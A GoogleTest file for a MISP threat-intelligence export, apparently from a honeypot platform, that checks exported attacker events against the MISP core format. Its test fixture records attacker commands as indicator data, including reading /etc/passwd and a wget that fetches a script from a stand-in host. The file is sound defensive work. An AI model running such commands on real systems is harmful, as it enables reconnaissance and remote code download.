// The MISP export (misp_event.h). misp_problems() below checks the MISP core format
// (draft-dulaunoy-misp-core-format) as these events use it: {"Event": {...}} with an RFC 4122
// uuid, an info line, a YYYY-MM-DD date, threat level, analysis and distribution from their
// enumerations, a boolean published and a decimal timestamp; attributes with unique uuids, a
// boolean to_ids and a (type, category) pair MISP accepts; ATT&CK clusters in a
// mitre-attack-pattern galaxy named "<name> - <id>" with their external id and matching tag. It
// runs over the events of a bare, a fully described and a catalogue-unknown attacker, and is
// itself shown to reject what the format forbids. Pinned besides: what each fact becomes (the
// address an ip-src for IDS, files sha256, mail domains domain), the date is the first-seen day,
// one cluster and tag per distinct technique, named from the shipped catalogue, and event uuids
// stable per attacker and distinct between attackers.
#include "ttp/misp_event.h"

#include <arpa/inet.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <map>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "core/time.h"
#include "store/ttp_repository.h"
#include "ttp/attack_catalog.h"

namespace decnet::ttp {
namespace {

using nlohmann::json;

// ---------------------------------------------------------------------------------------------
// The checker: the MISP core format, as far as these events use it.

const std::regex kUuid("[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}");
const std::regex kDate(R"((\d{4})-(\d{2})-(\d{2}))");
const std::regex kDecimal(R"(\d+)");
const std::regex kClusterValue(R"((.+) - (T\d{4}(\.\d{3})?))");

// The (type, category) pairs of MISP's describeTypes these events may use.
const std::map<std::string, std::set<std::string>> kCategories = {
    {"ip-src", {"Network activity"}},
    {"ip-dst", {"Network activity"}},
    {"sha256", {"Payload delivery", "Artifacts dropped"}},
    {"domain", {"Network activity"}},
    {"text", {"Other"}},
    {"comment", {"Other"}},
};

std::string text(const json& object, const std::string& key) {
  const auto it = object.find(key);
  return it != object.end() && it->is_string() ? it->get<std::string>() : std::string();
}

bool one_of(const json& object, const std::string& key, std::set<std::string> allowed) {
  const auto it = object.find(key);
  return it != object.end() && it->is_string() && allowed.contains(it->get<std::string>());
}

bool is_bool(const json& object, const std::string& key) {
  const auto it = object.find(key);
  return it != object.end() && it->is_boolean();
}

std::vector<std::string> misp_problems(const json& doc) {
  std::vector<std::string> problems;
  const auto fail = [&](const std::string& where, const std::string& what) {
    problems.push_back(where + ": " + what);
  };
  if (!doc.is_object() || doc.size() != 1 || !doc.contains("Event") || !doc["Event"].is_object()) {
    return {"document: not {\"Event\": {...}}"};
  }
  const auto& e = doc["Event"];
  const auto uuid = text(e, "uuid");
  if (!std::regex_match(uuid, kUuid)) fail("Event", "uuid is not an RFC 4122 uuid");
  if (text(e, "info").empty()) fail("Event", "info is empty");
  std::smatch d;
  const auto date = text(e, "date");
  if (!std::regex_match(date, d, kDate) || std::stoi(d[2]) < 1 || std::stoi(d[2]) > 12 ||
      std::stoi(d[3]) < 1 || std::stoi(d[3]) > 31) {
    fail("Event", "date is not YYYY-MM-DD");
  }
  if (!one_of(e, "threat_level_id", {"1", "2", "3", "4"})) fail("Event", "threat_level_id");
  if (!one_of(e, "analysis", {"0", "1", "2"})) fail("Event", "analysis");
  if (!one_of(e, "distribution", {"0", "1", "2", "3", "4", "5"})) fail("Event", "distribution");
  if (!is_bool(e, "published")) fail("Event", "published is not a boolean");
  if (!std::regex_match(text(e, "timestamp"), kDecimal)) {
    fail("Event", "timestamp is not a decimal string");
  }

  std::set<std::string> uuids = {uuid};
  for (const auto& a : e.value("Attribute", json::array())) {
    const auto where = "Attribute " + text(a, "type") + " " + text(a, "value");
    if (!std::regex_match(text(a, "uuid"), kUuid)) fail(where, "uuid is not an RFC 4122 uuid");
    if (!uuids.insert(text(a, "uuid")).second) fail(where, "uuid is not unique");
    if (text(a, "value").empty()) fail(where, "no value");
    if (!is_bool(a, "to_ids")) fail(where, "to_ids is not a boolean");
    const auto categories = kCategories.find(text(a, "type"));
    if (categories == kCategories.end()) {
      fail(where, "type is not one the checker knows");
    } else if (!categories->second.contains(text(a, "category"))) {
      fail(where, "category \"" + text(a, "category") + "\" is not one MISP allows for the type");
    }
    if (a.contains("distribution") && !one_of(a, "distribution", {"0", "1", "2", "3", "4", "5"})) {
      fail(where, "distribution");
    }
    if (a.contains("timestamp") && !std::regex_match(text(a, "timestamp"), kDecimal)) {
      fail(where, "timestamp is not a decimal string");
    }
    const auto value = text(a, "value");
    unsigned char address[16];
    if ((text(a, "type") == "ip-src" || text(a, "type") == "ip-dst") &&
        inet_pton(AF_INET, value.c_str(), address) != 1 &&
        inet_pton(AF_INET6, value.c_str(), address) != 1) {
      fail(where, "value is not an IP address");
    }
    if (text(a, "type") == "sha256" && !std::regex_match(value, std::regex("[0-9a-f]{64}"))) {
      fail(where, "value is not a SHA-256");
    }
  }

  std::set<std::string> tags;
  for (const auto& t : e.value("Tag", json::array())) {
    if (text(t, "name").empty()) fail("Tag", "without a name");
    if (!tags.insert(text(t, "name")).second) fail("Tag " + text(t, "name"), "not unique");
  }

  for (const auto& g : e.value("Galaxy", json::array())) {
    const auto type = text(g, "type");
    const auto clusters = g.find("GalaxyCluster");
    if (type.empty() || text(g, "name").empty() || clusters == g.end() || !clusters->is_array()) {
      fail("Galaxy", "without type, name and GalaxyCluster");
      continue;
    }
    if (type == "mitre-attack-pattern" &&
        text(g, "name").find("Attack Pattern") == std::string::npos) {
      fail("Galaxy", "mitre-attack-pattern galaxy not named Attack Pattern");
    }
    for (const auto& c : *clusters) {
      const auto value = text(c, "value");
      const auto where = "GalaxyCluster " + value;
      if (text(c, "type") != type) fail(where, "type is not its galaxy's");
      const auto tag_name = "misp-galaxy:" + type + "=\"" + value + "\"";
      if (c.contains("tag_name") && text(c, "tag_name") != tag_name) fail(where, "tag_name");
      if (!tags.contains(tag_name)) fail(where, "no event Tag " + tag_name);
      if (type != "mitre-attack-pattern") continue;
      std::smatch m;
      if (!std::regex_match(value, m, kClusterValue)) {
        fail(where, "value is not \"<name> - <technique id>\"");
        continue;
      }
      const auto meta = c.value("meta", json::object());
      if (meta.value("external_id", json()) != json::array({m[2].str()})) {
        fail(where, "meta.external_id is not [" + m[2].str() + "]");
      }
    }
  }
  return problems;
}

std::string joined(const std::vector<std::string>& problems) {
  std::string out;
  for (const auto& p : problems) out += "\n  " + p;
  return out;
}

// ---------------------------------------------------------------------------------------------
// Inputs and lookups.

std::int64_t micros(std::string_view rfc3339) {
  return core::parse_rfc3339(rfc3339).value().micros_utc;
}

const std::int64_t kMispNow = micros("2026-05-02T06:00:00Z");
const std::string kHashEmpty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
const std::string kHashAbc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

store::TtpTag tag(std::string source_id, std::string technique, std::optional<std::string> sub) {
  store::TtpTag t;
  t.source_kind = "command";
  t.source_id = std::move(source_id);
  t.technique_id = std::move(technique);
  t.sub_technique_id = std::move(sub);
  t.confidence = 0.8;
  t.rule_id = "R0005";
  t.created_at = micros("2026-04-30T09:00:00Z");
  t.uuid = store::compute_tag_uuid(t.source_kind, t.source_id, t.rule_id, t.rule_version,
                                   t.technique_id, t.sub_technique_id);
  return t;
}

// First seen late on the 30th (UTC), last seen on the 1st, exported on the 2nd.
AttackerExport bare() {
  AttackerExport a;
  a.uuid = "0b7c6a1e-2f3d-4c5b-8a69-7e8f9a0b1c2d";
  a.ip = "198.51.100.1";
  a.first_seen = micros("2026-04-30T23:30:00Z");
  a.last_seen = micros("2026-05-01T01:00:00Z");
  a.event_count = 12;
  return a;
}

// IPv6, three tags over T1110 and the sub-technique T1059.004, two files, two mail domains,
// three commands and an intel verdict.
AttackerExport full() {
  AttackerExport a;
  a.uuid = "1c8d7b2f-3a4e-4d6c-9b7a-8f9a0b1c2d3e";
  a.ip = "2001:db8::7";
  a.first_seen = micros("2026-04-29T08:00:00Z");
  a.last_seen = micros("2026-05-01T17:30:00Z");
  a.event_count = 340;
  a.tags = {tag("c-3", "T1059", "T1059.004"), tag("c-2", "T1059", "T1059.004"),
            tag("s-1", "T1110", std::nullopt)};
  a.file_sha256s = {kHashEmpty, kHashAbc};
  a.smtp_domains = {"corp1.example", "mail.example.org"};
  a.commands = {"uname -a", "cat /etc/passwd", "wget http://203.0.113.9/x.sh"};
  a.intel_verdict = "malicious";
  return a;
}

json event_of(const AttackerExport& a, std::int64_t now = kMispNow) {
  return misp_event(a, AttackCatalog::shipped(), now);
}

std::vector<json> attributes(const json& doc, const std::string& type) {
  std::vector<json> out;
  for (const auto& a : doc["Event"]["Attribute"]) {
    if (a["type"] == type) out.push_back(a);
  }
  return out;
}

std::multiset<std::string> values(const std::vector<json>& attrs) {
  std::multiset<std::string> out;
  for (const auto& a : attrs) out.insert(a["value"].get<std::string>());
  return out;
}

std::vector<json> attack_clusters(const json& doc) {
  std::vector<json> out;
  for (const auto& g : doc["Event"].value("Galaxy", json::array())) {
    if (g["type"] != "mitre-attack-pattern") continue;
    for (const auto& c : g["GalaxyCluster"]) out.push_back(c);
  }
  return out;
}

std::set<std::string> tag_names(const json& doc) {
  std::set<std::string> out;
  for (const auto& t : doc["Event"]["Tag"]) out.insert(t["name"].get<std::string>());
  return out;
}

// ---------------------------------------------------------------------------------------------

// The checker is only worth running if it fails on what the format forbids: each mutation of a
// valid event must draw the complaint that names it.
TEST(MispChecker, RejectsWhatTheCoreFormatForbids) {
  const auto valid = event_of(full());
  ASSERT_TRUE(misp_problems(valid).empty()) << joined(misp_problems(valid));
  const auto attribute = [](json& doc, const std::string& type) -> json& {
    for (auto& a : doc["Event"]["Attribute"]) {
      if (a["type"] == type) return a;
    }
    throw std::runtime_error("no " + type);
  };
  const auto cluster = [](json& doc) -> json& {
    return doc["Event"]["Galaxy"][0]["GalaxyCluster"][0];
  };
  const std::vector<std::pair<std::string, std::function<void(json&)>>> mutations = {
      {"not {\"Event\"",
       [](json& doc) {
         doc = {{"event", doc["Event"]}};
       }},
      {"uuid is not", [](json& doc) { doc["Event"]["uuid"] = "event-1"; }},
      {"info is empty", [](json& doc) { doc["Event"]["info"] = ""; }},
      {"date is not", [](json& doc) { doc["Event"]["date"] = "2026/04/29"; }},
      {"date is not", [](json& doc) { doc["Event"]["date"] = "2026-13-01"; }},
      {"threat_level_id", [](json& doc) { doc["Event"]["threat_level_id"] = "5"; }},
      {"threat_level_id", [](json& doc) { doc["Event"]["threat_level_id"] = 2; }},
      {"analysis", [](json& doc) { doc["Event"]["analysis"] = "3"; }},
      {"distribution", [](json& doc) { doc["Event"]["distribution"] = "6"; }},
      {"published is not", [](json& doc) { doc["Event"]["published"] = "false"; }},
      {"timestamp is not", [](json& doc) { doc["Event"]["timestamp"] = 1777700000; }},
      {"to_ids is not", [&](json& doc) { attribute(doc, "ip-src")["to_ids"] = "1"; }},
      {"not one MISP allows",
       [&](json& doc) { attribute(doc, "sha256")["category"] = "Network activity"; }},
      {"not one MISP allows", [&](json& doc) { attribute(doc, "text")["category"] = "Other "; }},
      {"uuid is not unique",
       [&](json& doc) { attribute(doc, "domain")["uuid"] = attribute(doc, "ip-src")["uuid"]; }},
      {"uuid is not unique",
       [&](json& doc) { attribute(doc, "domain")["uuid"] = doc["Event"]["uuid"]; }},
      {"no value", [&](json& doc) { attribute(doc, "domain").erase("value"); }},
      {"not an IP address", [&](json& doc) { attribute(doc, "ip-src")["value"] = "attacker"; }},
      {"not a SHA-256", [&](json& doc) { attribute(doc, "sha256")["value"] = "abc"; }},
      {"not named Attack Pattern", [](json& doc) { doc["Event"]["Galaxy"][0]["name"] = "Tool"; }},
      {"value is not \"<name> - <technique id>\"",
       [&](json& doc) { cluster(doc)["value"] = "Unix Shell"; }},
      {"meta.external_id",
       [&](json& doc) { cluster(doc)["meta"]["external_id"] = json::array({"T1059"}); }},
      {"no event Tag",
       [](json& doc) {
         auto& tags = doc["Event"]["Tag"];
         tags.erase(std::remove_if(tags.begin(), tags.end(),
                                   [](const json& t) {
                                     return t["name"].get<std::string>().starts_with("misp-galaxy");
                                   }),
                    tags.end());
       }},
  };
  for (const auto& [complaint, mutate] : mutations) {
    auto doc = valid;
    mutate(doc);
    const auto problems = misp_problems(doc);
    EXPECT_TRUE(std::any_of(problems.begin(), problems.end(),
                            [&](const std::string& p) { return p.find(complaint) != p.npos; }))
        << "expected \"" << complaint << "\", got:" << joined(problems);
  }
}

TEST(MispEvent, EveryExportIsAWellFormedCoreFormatEvent) {
  auto unknown = bare();
  unknown.tags = {tag("c-9", "T1999", std::nullopt)};
  auto unseen = bare();
  unseen.first_seen = unseen.last_seen = 0;
  const std::vector<std::pair<std::string, AttackerExport>> inputs = {
      {"an attacker without tags", bare()},
      {"a fully described IPv6 attacker", full()},
      {"a technique the catalogue lacks", unknown},
      {"an attacker with no seen times", unseen},
  };
  for (const auto& [what, attacker] : inputs) {
    const auto problems = misp_problems(event_of(attacker));
    EXPECT_TRUE(problems.empty()) << what << ":" << joined(problems);
  }
}

TEST(MispEvent, TheDateIsTheDayTheAttackerWasFirstSeen) {
  const auto a = bare();
  EXPECT_EQ(event_of(a)["Event"]["date"], core::format_rfc3339(a.first_seen).substr(0, 10));
  EXPECT_EQ(event_of(a)["Event"]["date"], "2026-04-30");  // not the last-seen or export day
}

TEST(MispEvent, TheAddressIsAnIpSrcAttributeForIds) {
  for (const auto& a : {bare(), full()}) {
    SCOPED_TRACE(a.ip);
    const auto ip = attributes(event_of(a), "ip-src");
    ASSERT_EQ(ip.size(), 1u);
    EXPECT_EQ(ip[0]["value"], a.ip);
    EXPECT_EQ(ip[0]["to_ids"], true);
    EXPECT_EQ(ip[0]["category"], "Network activity");
  }
}

TEST(MispEvent, DroppedFilesAreSha256AndTargetedMailDomainsDomainAttributes) {
  const auto a = full();
  const auto doc = event_of(a);
  const auto files = attributes(doc, "sha256");
  EXPECT_EQ(values(files),
            std::multiset<std::string>(a.file_sha256s.begin(), a.file_sha256s.end()));
  for (const auto& f : files) EXPECT_EQ(f["to_ids"], true);
  EXPECT_EQ(values(attributes(doc, "domain")),
            std::multiset<std::string>(a.smtp_domains.begin(), a.smtp_domains.end()));
  EXPECT_EQ(values(attributes(doc, "text")),
            std::multiset<std::string>(a.commands.begin(), a.commands.end()));
  const auto verdict = attributes(doc, "comment");
  ASSERT_EQ(verdict.size(), 1u);
  EXPECT_NE(verdict[0]["value"].get<std::string>().find(*a.intel_verdict), std::string::npos);

  const auto plain = event_of(bare());
  EXPECT_TRUE(attributes(plain, "sha256").empty());
  EXPECT_TRUE(attributes(plain, "domain").empty());
  EXPECT_TRUE(attributes(plain, "comment").empty());
}

TEST(MispEvent, EachDistinctTechniqueIsOneAttackPatternClusterAndTag) {
  const auto& catalog = AttackCatalog::shipped();
  ASSERT_EQ(catalog.technique("T1999"), nullptr);
  auto a = full();
  // The parent of the sub-technique already tagged is a technique of its own.
  a.tags.push_back(tag("c-7", "T1059", std::nullopt));
  a.tags.push_back(tag("c-9", "T1999", std::nullopt));
  const auto doc = event_of(a);
  EXPECT_TRUE(misp_problems(doc).empty()) << joined(misp_problems(doc));

  std::set<std::string> techniques;
  for (const auto& t : a.tags) techniques.insert(t.sub_technique_id.value_or(t.technique_id));
  ASSERT_EQ(techniques, (std::set<std::string>{"T1059", "T1059.004", "T1110", "T1999"}));
  const auto clusters = attack_clusters(doc);
  EXPECT_EQ(clusters.size(), techniques.size());
  const auto tags = tag_names(doc);
  for (const auto& id : techniques) {
    SCOPED_TRACE(id);
    const auto* known = catalog.technique(id);
    ASSERT_EQ(known == nullptr, id == "T1999");
    const auto value = (known ? known->name : id) + " - " + id;
    int found = 0;
    for (const auto& c : clusters) {
      if (c["value"] != value) continue;
      ++found;
      EXPECT_EQ(c["meta"]["external_id"], json::array({id}));
    }
    EXPECT_EQ(found, 1);
    EXPECT_TRUE(tags.contains("misp-galaxy:mitre-attack-pattern=\"" + value + "\""));
  }
  EXPECT_EQ(std::count_if(tags.begin(), tags.end(),
                          [](const std::string& t) { return t.starts_with("misp-galaxy:"); }),
            static_cast<std::ptrdiff_t>(techniques.size()));
  const auto galaxies = doc["Event"]["Galaxy"];
  ASSERT_EQ(galaxies.size(), 1u);
  EXPECT_EQ(galaxies[0]["type"], "mitre-attack-pattern");
}

TEST(MispEvent, TheEventUuidIsStablePerAttackerAndDistinctBetweenThem) {
  const auto once = event_of(full(), kMispNow)["Event"];
  const auto again = event_of(full(), kMispNow + 86'400'000'000)["Event"];
  EXPECT_EQ(once["uuid"], again["uuid"]);
  EXPECT_NE(once["timestamp"], again["timestamp"]);  // a later export, the same event
  const auto other = event_of(bare())["Event"];
  EXPECT_NE(once["uuid"], other["uuid"]);
  // Re-exported attributes keep their uuids too, so MISP updates rather than duplicates them.
  std::set<std::string> first, second;
  for (const auto& a : once["Attribute"]) first.insert(a["uuid"].get<std::string>());
  for (const auto& a : again["Attribute"]) second.insert(a["uuid"].get<std::string>());
  EXPECT_EQ(first, second);
}

TEST(MispEvent, AnAttackerWithoutTagsHasNoGalaxy) {
  const auto doc = event_of(bare());
  EXPECT_FALSE(doc["Event"].contains("Galaxy"));
  for (const auto& name : tag_names(doc)) EXPECT_FALSE(name.starts_with("misp-galaxy:")) << name;
}

}  // namespace
}  // namespace decnet::ttp
